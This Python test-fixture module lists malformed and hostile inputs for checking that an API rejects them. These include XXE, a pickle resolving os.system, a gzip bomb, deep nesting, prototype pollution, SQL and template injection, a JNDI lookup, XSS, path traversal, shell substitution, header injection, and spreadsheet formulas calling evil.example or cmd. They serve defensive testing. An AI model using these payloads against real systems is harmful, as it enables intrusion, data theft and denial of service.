"""JSON bodies that no door may take, whatever it is for, and values for every text of a request."""

import gzip
import io
import json
import zipfile
from typing import Final


def _zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.json", "{}" * 1000)
    return packed.getvalue()


def _deep(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


NOT_JSON: Final = {
    "nothing": b"",
    "blanks": b" \r\n\t",
    "words": b"hello",
    "a form": b"type=chat&input=x",
    "XML": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>",
    "YAML": b"type: chat\ninput: x\n",
    "a Python literal": b"{'type': 'chat'}",
    "a pickle": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x94.",
    "gzip": gzip.compress(b"{}"),
    "a gzip bomb": gzip.compress(b" " * 5_000_000),
    "a zip": _zip(),
    "cut in a string": b'{"a":"b',
    "cut after a key": b'{"a"',
    "cut after a colon": b'{"a":',
    "cut in a list": b"[1,2",
    "cut in an escape": b'{"a":"\\u00',
    "a comma too many": b'{"a":1,}',
    "two documents": b"{}{}",
    "a document and words": b"{} x",
    "lines of JSON": b"{}\n{}\n",
    "a comment": b"{/* no */}",
    "single quotes": b"{'a':1}",
    "a bare key": b"{a:1}",
    "NaN": b'{"a":NaN}',
    "Infinity": b'{"a":-Infinity}',
    "a hexadecimal number": b'{"a":0x10}',
    "a leading zero": b'{"a":01}',
    "a plus": b'{"a":+1}',
    "a bare point": b'{"a":.5}',
    "1e400": b'{"a":1e400}',
    "1e400000": b'{"a":1e400000}',
    "5,000 digits": b'{"a":' + b"9" * 5_000 + b"}",
    "2^63": b'{"a":9223372036854775808}',
    "-2^63 - 1": b'{"a":-9223372036854775809}',
    "2^64": b'{"a":18446744073709551616}',
    "a tab in a string": b'{"a":"\t"}',
    "a line feed in a string": b'{"a":"\n"}',
    "a NUL in a string": b'{"a":"\x00"}',
    "an escaped NUL": b'{"a":"\\u0000"}',
    "an escaped NUL in a key": b'{"\\u0000":1}',
    "a NUL between": b'{"a":\x001}',
    "half a pair": b'{"a":"\\ud800"}',
    "the other half": b'{"a":"\\udc00"}',
    "the halves changed": b'{"a":"\\udc00\\ud800"}',
    "half a pair in a key": b'{"\\udfff":1}',
    "an escape that is none": b'{"a":"\\x41"}',
    "bytes that are no UTF-8": b'{"a":"\xff\xfe"}',
    "an overlong slash": b'{"a":"\xc0\xaf"}',
    "a surrogate in UTF-8": b'{"a":"\xed\xa0\x80"}',
    "beyond Unicode": b'{"a":"\xf5\x80\x80\x80"}',
    "Latin-1": '{"a":"é"}'.encode("latin-1"),
    "UTF-16": '{"a":1}'.encode("utf-16"),
    "UTF-16 without a mark": '{"a":1}'.encode("utf-16-le"),
    "UTF-32": '{"a":1}'.encode("utf-32"),
    "UTF-7": b'{"a":"+AGE-"' + b"\xff}",
    "a byte order mark": b"\xef\xbb\xbf{}",
    "depth 33": b'{"a":' + _deep(33) + b"}",
    "depth 1,000": b'{"a":' + _deep(1_000) + b"}",
    "depth 100,000": b'{"a":' + _deep(100_000) + b"}",
    "100,000 open brackets": b"[" * 100_000,
    "100,000 open braces": b'{"a":' * 100_000,
    "deep, then broken": b'{"a":' + b"[" * 40 + b"x",
    "a repeated key": b'{"a":1,"a":2}',
    "a repeated key, spelt in two ways": b'{"a":1,"\\u0061":2}',
}
"""Refused as text, before anyone asks what the fields mean."""

NOT_AN_OBJECT: Final = {
    "null": b"null",
    "true": b"true",
    "a number": b"1",
    "text": b'"text"',
    "a list": b"[]",
    "a list of objects": b"[{}]",
    "10,000 lists": b"[" + b",".join([b"[]"] * 10_000) + b"]",
}

NOT_KNOWN: Final = {
    "__proto__": b'{"__proto__":{"polluted":true}}',
    "constructor": b'{"constructor":{"prototype":{}}}',
    "$where": b'{"$where":"1"}',
    "an empty key": b'{"":1}',
    "a key of 100 kB": b'{"' + b"k" * 100_000 + b'":1}',
    "a key with quotes": b'{"a\\"b":1}',
    "a key that is markup": b'{"<script>alert(1)</script>":1}',
    "10,000 keys": json.dumps({f"k{number}": number for number in range(10_000)}).encode(),
}

ANY_DOOR: Final = {**NOT_JSON, **NOT_AN_OBJECT, **NOT_KNOWN}

TEXTS: Final = {
    "SQL": "'; drop table job; --",
    "SQL that sleeps": "1' or pg_sleep(10)--",
    "a format": "%s%s%s%n {0.__class__} ${jndi:ldap://x}",
    "a template": "{{7*7}} {% debug %} <%= 1 %>",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a path": "../../../../etc/passwd",
    "a path of Windows": "..\\..\\windows\\win.ini",
    "a shell": "$(touch /tmp/pwned); `id` | cat",
    "lines": "a\r\nSet-Cookie: admin=1\r\n\r\n",
    "an escape sequence": "\x1b[2J\x1b]0;title\x07",
    "right to left": "\u202egnp.exe",
    "nothing to see": "\u200b\u2060\ufeff",
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "marks without end": "Z" + "\u0301" * 500,
    "beyond the plane": "\U0001d54f\U0010ffff\ufffe",
    "a formula": '=HYPERLINK("http://evil.example";"x")',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "very long": "a" * 100_000,
    "spaces": "   ",
    "digits of another script": "\u0661\u0662\u0663",
}
"""Text that is only text: taken or refused, and never more than that."""
